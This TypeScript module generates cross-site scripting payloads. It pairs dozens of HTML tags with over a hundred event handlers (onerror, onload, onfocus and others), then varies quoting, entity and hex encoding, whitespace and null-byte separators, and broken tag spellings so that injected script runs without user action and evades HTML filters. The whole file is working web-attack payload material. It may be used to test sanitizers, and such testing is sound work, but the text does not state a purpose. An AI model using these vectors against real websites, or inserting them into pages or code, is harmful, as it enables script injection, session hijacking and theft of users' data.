import { beside, decimal, hexadecimal, mixedCase, pairs, type Vector } from './vector.ts';

/** Tags with what they need so that an event reaches them without a reader. */
const tags = [
  'img src=x',
  'img srcset=x',
  'svg',
  'video src=x',
  'video autoplay><source src=x',
  'audio src=x',
  'audio controls autoplay src=x',
  'body',
  'iframe',
  'iframe src=about:blank',
  'input autofocus',
  'input type=image src=x',
  'select autofocus',
  'textarea autofocus',
  'button autofocus',
  'details open',
  'marquee',
  'object data=x',
  'embed src=x',
  'link rel=stylesheet href=x',
  'style',
  'script src=x',
  'div tabindex=0',
  'p contenteditable',
  'b id=x tabindex=1',
  'a href=# tabindex=1',
  'table',
  'td',
  'form',
  'math href=x',
  'xss autofocus tabindex=1',
  'x-y tabindex=1',
  'dialog open',
  'label',
  'fieldset',
  'image src=x',
  'isindex type=image src=x',
  'picture><img src=x',
  'object type=image/svg+xml data=x',
  'frameset',
] as const;

const natural = ['error', 'load', 'focus', 'toggle', 'click', 'pointerover'] as const;

const events = [
  ...['abort', 'animationend', 'animationiteration', 'animationstart', 'auxclick', 'beforecopy'],
  ...['beforecut', 'beforeinput', 'beforematch', 'beforepaste', 'beforetoggle', 'begin', 'blur', 'bounce'],
  ...['cancel', 'canplay', 'canplaythrough', 'change', 'click', 'close', 'contextmenu', 'copy', 'cuechange'],
  ...['cut', 'dblclick', 'drag', 'dragend', 'dragenter', 'dragleave', 'dragover', 'dragstart', 'drop'],
  ...['durationchange', 'ended', 'end', 'error', 'focus', 'focusin', 'focusout', 'formdata'],
  ...[
    'fullscreenchange',
    'gotpointercapture',
    'hashchange',
    'input',
    'invalid',
    'keydown',
    'keypress',
    'keyup',
  ],
  ...['load', 'loadeddata', 'loadedmetadata', 'loadstart', 'lostpointercapture', 'message', 'mousedown'],
  ...['mouseenter', 'mouseleave', 'mousemove', 'mouseout', 'mouseover', 'mouseup', 'mousewheel', 'pagehide'],
  ...['pageshow', 'paste', 'pause', 'play', 'playing', 'pointercancel', 'pointerdown', 'pointerenter'],
  ...[
    'pointerleave',
    'pointermove',
    'pointerout',
    'pointerover',
    'pointerrawupdate',
    'pointerup',
    'popstate',
  ],
  ...['progress', 'ratechange', 'repeat', 'reset', 'resize', 'scroll', 'scrollend', 'scrollsnapchange'],
  ...['search', 'securitypolicyviolation', 'seeked', 'seeking', 'select', 'selectionchange', 'selectstart'],
  ...['slotchange', 'stalled', 'start', 'storage', 'submit', 'suspend', 'timeupdate', 'toggle', 'touchend'],
  ...['touchmove', 'touchstart', 'transitioncancel', 'transitionend', 'transitionrun', 'transitionstart'],
  ...['unhandledrejection', 'unload', 'volumechange', 'waiting', 'webkitanimationstart', 'wheel'],
] as const;

/** How the code stands behind the name of the handler. */
const quoting: [Vector, ...Vector[]] = [
  (code) => `="${code}"`,
  (code) => `='${code}'`,
  (code) => `=${code}`,
  (code) => ` = "${code}"`,
  (code) => `\n=\n"${code}"`,
  (code) => `="${decimal(code)}"`,
  (code) => `=${hexadecimal(code, '000')}`,
  (code) => `="${decimal(code, '').replaceAll('&', ' &').replaceAll(' ', '')};"`,
  (code) => `="javascript:${code}"`,
  (code) => `="/**/${code}//"`,
  (code) => `="{${code}}"`,
  (code) => `='&Tab;&NewLine;${code}'`,
];

/** What may stand between a tag's name and its attributes, for a browser or for a filter that guesses. */
const separators = [
  ...['/', '//', '\n', '\t', '\f', '\r', '\r\n', ' / ', '/\n/', ' x ', ' " ', "/'/", ' =x '],
  ...['\u000B', '\u00A0', '\u0000', ' <', '/x/', '="">'],
] as const;

const spellings: ((tag: string, rest: string) => string)[] = [
  (tag, rest) => `<${tag.toUpperCase()} ${rest}>`,
  (tag, rest) => `<${mixedCase(tag)} ${rest}>`,
  (tag, rest) => `<${tag} ${rest}`,
  (tag, rest) => `<${tag} ${rest}/>`,
  (tag, rest) => `<<${tag} ${rest}>`,
  (tag, rest) => `<${tag} ${rest}//`,
  (tag, rest) => `</p><${tag} ${rest}>`,
  (tag, rest) => `"'><${tag} ${rest}>`,
  (tag, rest) => `--><${tag} ${rest}>`,
  (tag, rest) => `</title></textarea></style><${tag} ${rest}>`,
  (tag, rest) => `<x:${tag} ${rest}>`,
  (tag, rest) => `&lt;${tag} ${rest}&gt;`,
  (tag, rest) => `\\<${tag} ${rest}>`,
  (tag, rest) => `\`<${tag} ${rest}>`,
];

const shortTags = ['img src=x', 'svg', 'details open', 'input autofocus', 'p', 'video src=x', 'a href=#'];

/** Event handlers in attributes: which tag, which event, how it is quoted, parted and spelt. */
export const handlerVectors: Vector[] = [
  ...beside(pairs(tags, natural), quoting).map(
    ([[tag, event], quote]): Vector =>
      (code) =>
        `<${tag} on${event}${quote(code)}>x`,
  ),
  ...pairs(events, ['b tabindex=0', 'img src=x'] as const).map(
    ([event, tag]): Vector =>
      (code) =>
        `<${tag} on${event}=${code}>x`,
  ),
  ...beside(events, quoting).map(
    ([event, quote]): Vector =>
      (code) =>
        `<a href="#" ${mixedCase(`on${event}`)}${quote(code)}>x</a>`,
  ),
  ...pairs(separators, shortTags).map(
    ([separator, tag]): Vector =>
      (code) =>
        `<${tag.replace(' ', separator)}${separator}onclick=${code}${separator}onload=${code}${separator}onerror=${code}>`,
  ),
  ...pairs(spellings, shortTags).map(
    ([spell, tag]): Vector =>
      (code) =>
        spell(tag.split(' ')[0] ?? '', `src=x onerror=${code} onload=${code} onfocus=${code} tabindex=0`),
  ),
];
